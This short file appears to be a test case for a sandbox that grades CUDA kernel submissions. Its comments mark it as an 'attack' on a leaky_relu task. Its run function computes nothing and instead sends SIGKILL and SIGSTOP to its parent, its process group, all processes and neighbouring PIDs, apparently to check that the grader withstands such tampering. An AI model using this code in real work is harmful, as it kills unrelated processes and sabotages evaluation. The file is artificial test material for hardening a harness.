// attack: processes: sends SIGKILL and SIGSTOP to its parent, its group and everybody
// task: leaky_relu
// expect: INCORRECT_NUMERICAL output_not_written
#include <cstdint>
#include <signal.h>
#include <unistd.h>

__global__ void unused() {}
extern "C" void run(const float* x, float slope, float* y, int64_t n, cudaStream_t stream) {
  for (int signal : {SIGKILL, SIGSTOP}) {
    kill(getppid(), signal);
    killpg(0, signal);
    kill(-1, signal);
    for (int pid = getpid() - 30; pid < getpid() + 30; ++pid) {
      if (pid > 1 && pid != getpid()) kill(pid, signal);
    }
  }
}
